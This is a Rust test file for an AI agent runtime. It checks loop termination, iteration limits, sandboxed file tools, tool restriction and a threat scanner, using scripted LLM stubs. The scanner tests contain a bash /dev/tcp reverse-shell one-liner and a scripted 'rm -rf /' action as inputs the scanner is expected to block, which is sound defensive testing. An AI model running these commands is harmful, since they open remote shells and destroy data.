//! End-to-end agent runs against a real registry and a real sandbox,
//! with the LLM replaced by deterministic scripted stubs.

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;

use gridagent_core::{
    register_reasoning_tools, register_sandbox_tools, ActionKind, AgentRunRequest, AgentRuntime,
    AgentStrategy, FnLlmClient, LlmClient, LlmResponse, RunStatus, ThreatScanner, SandboxConfig,
    SandboxStore, ToolContext, ToolRegistry,
};

fn scripted(replies: Vec<&'static str>) -> (Arc<dyn LlmClient>, Arc<AtomicUsize>) {
    let calls = Arc::new(AtomicUsize::new(0));
    let counter = calls.clone();
    let client = Arc::new(FnLlmClient::new("scripted", move |_req| {
        let index = counter.fetch_add(1, Ordering::SeqCst);
        let text = replies
            .get(index)
            .or_else(|| replies.last())
            .copied()
            .unwrap_or("")
            .to_string();
        async move {
            Ok(LlmResponse {
                text,
                tokens_generated: 3,
            })
        }
    }));
    (client, calls)
}

fn sandboxed_runtime(
    llm: Arc<dyn LlmClient>,
) -> (tempfile::TempDir, AgentRuntime, ToolContext) {
    let dir = tempfile::tempdir().unwrap();
    let sandbox = Arc::new(SandboxStore::new(SandboxConfig::new(dir.path())));
    let scanner = Arc::new(ThreatScanner::new());

    let mut registry = ToolRegistry::new();
    register_reasoning_tools(&mut registry);
    register_sandbox_tools(&mut registry, scanner.clone());

    let runtime = AgentRuntime::new(scanner, Arc::new(registry), llm);
    let ctx = ToolContext::Local {
        workspace_id: "run-1".into(),
        sandbox,
    };
    (dir, runtime, ctx)
}

#[tokio::test]
async fn reactive_loop_terminates_on_finish() {
    let (llm, calls) = scripted(vec!["Thought: done\nAction: finish\nAction Input: 42"]);
    let (_dir, runtime, ctx) = sandboxed_runtime(llm);

    let request = AgentRunRequest::new("answer")
        .with_max_iterations(5)
        .with_context(ctx);
    let response = runtime.run(&request).await;

    assert_eq!(response.status, RunStatus::Completed);
    assert_eq!(response.result, "42");
    assert_eq!(response.iterations, 1);
    assert_eq!(calls.load(Ordering::SeqCst), 1);
}

#[tokio::test]
async fn iteration_cap_is_exact() {
    let (llm, calls) = scripted(vec!["Thought: forever\nAction: think\nAction Input: again"]);
    let (_dir, runtime, ctx) = sandboxed_runtime(llm);

    let request = AgentRunRequest::new("never finishes")
        .with_max_iterations(4)
        .with_context(ctx);
    let response = runtime.run(&request).await;

    assert_eq!(response.status, RunStatus::MaxIterations);
    assert_eq!(response.iterations, 4);
    assert_eq!(calls.load(Ordering::SeqCst), 4);
    assert_eq!(response.trace.len(), 4);
}

#[tokio::test]
async fn goal_level_block_short_circuits() {
    let (llm, calls) = scripted(vec!["unreachable"]);
    let (_dir, runtime, ctx) = sandboxed_runtime(llm);

    let request = AgentRunRequest::new(
        "connect back with bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    )
    .with_context(ctx);
    let response = runtime.run(&request).await;

    assert_eq!(response.status, RunStatus::Blocked);
    assert_eq!(response.iterations, 0);
    assert_eq!(response.tokens_used, 0);
    assert!(!response.security_alerts.is_empty());
    assert!(response.trace.is_empty());
    assert_eq!(calls.load(Ordering::SeqCst), 0);
}

#[tokio::test]
async fn action_level_block_then_recovery() {
    let (llm, calls) = scripted(vec![
        "Thought: wipe it\nAction: execute_shell\nAction Input: rm -rf /",
        "Thought: refused, finishing\nAction: finish\nAction Input: did not wipe",
    ]);
    let (dir, runtime, ctx) = sandboxed_runtime(llm);

    let request = AgentRunRequest::new("tidy the machine")
        .with_max_iterations(5)
        .with_context(ctx);
    let response = runtime.run(&request).await;

    assert_eq!(response.status, RunStatus::Completed);
    assert_eq!(response.iterations, 2);
    assert_eq!(response.result, "did not wipe");
    assert_eq!(calls.load(Ordering::SeqCst), 2);

    assert_eq!(response.trace[0].kind, ActionKind::SecurityBlock);
    let observation = response.trace[0].observation.as_deref().unwrap();
    assert!(observation.starts_with("[BLOCKED]"));
    assert!(!response.security_alerts.is_empty());

    // The blocked action never reached the sandbox.
    assert!(!dir.path().join("run-1").exists());
}

#[tokio::test]
async fn unknown_tool_degrades_to_observation() {
    let (llm, _) = scripted(vec![
        "Thought: try magic\nAction: conjure\nAction Input: gold",
        "Thought: no such tool\nAction: finish\nAction Input: gave up on magic",
    ]);
    let (_dir, runtime, ctx) = sandboxed_runtime(llm);

    let request = AgentRunRequest::new("make gold").with_context(ctx);
    let response = runtime.run(&request).await;

    assert_eq!(response.status, RunStatus::Completed);
    let observation = response.trace[0].observation.as_deref().unwrap();
    assert!(observation.starts_with("not found"));
    assert!(observation.contains("'conjure'"));
    assert!(observation.contains("write_file"));
}

#[tokio::test]
async fn react_run_drives_real_sandbox_tools() {
    let (llm, _) = scripted(vec![
        "Thought: save it\nAction: write_file\nAction Input: data/result.txt :: hello grid",
        "Thought: check it\nAction: read_file\nAction Input: data/result.txt",
        "Thought: verified\nAction: finish\nAction Input: file written and verified",
    ]);
    let (dir, runtime, ctx) = sandboxed_runtime(llm);

    let request = AgentRunRequest::new("persist a greeting")
        .with_max_iterations(5)
        .with_context(ctx);
    let response = runtime.run(&request).await;

    assert_eq!(response.status, RunStatus::Completed);
    assert_eq!(response.iterations, 3);
    assert_eq!(
        response.trace[1].observation.as_deref(),
        Some("hello grid")
    );
    let on_disk = std::fs::read_to_string(dir.path().join("run-1/data/result.txt")).unwrap();
    assert_eq!(on_disk, "hello grid");
}

#[tokio::test]
async fn allowed_tools_limit_prompt_surface() {
    let captured = Arc::new(std::sync::Mutex::new(String::new()));
    let seen = captured.clone();
    let llm: Arc<dyn LlmClient> = Arc::new(FnLlmClient::new("capture", move |req| {
        if let Ok(mut guard) = seen.lock() {
            *guard = req.system.clone().unwrap_or_default();
        }
        async move {
            Ok(LlmResponse {
                text: "Thought: ok\nAction: finish\nAction Input: done".into(),
                tokens_generated: 1,
            })
        }
    }));
    let (_dir, runtime, ctx) = sandboxed_runtime(llm);

    let request = AgentRunRequest::new("narrow run")
        .with_allowed_tools(vec!["calculator".into()])
        .with_context(ctx);
    runtime.run(&request).await;

    let system = captured.lock().unwrap().clone();
    assert!(system.contains("calculator"));
    assert!(!system.contains("execute_shell"));
}

#[tokio::test]
async fn plan_execute_reports_progress_per_step() {
    let (llm, _) = scripted(vec![
        "1. First step\n2. Second step",
        "first done",
        "second done",
        "Both steps done.",
    ]);
    let (_dir, runtime, ctx) = sandboxed_runtime(llm);
    let mut rx = runtime.subscribe_progress();

    let request = AgentRunRequest::new("two step job")
        .with_strategy(AgentStrategy::PlanExecute)
        .with_context(ctx);
    let response = runtime.run(&request).await;

    assert_eq!(response.status, RunStatus::Completed);
    assert_eq!(response.result, "Both steps done.");

    let first = rx.recv().await.unwrap();
    let second = rx.recv().await.unwrap();
    assert_eq!((first.iteration, first.total), (1, 2));
    assert_eq!((second.iteration, second.total), (2, 2));
}
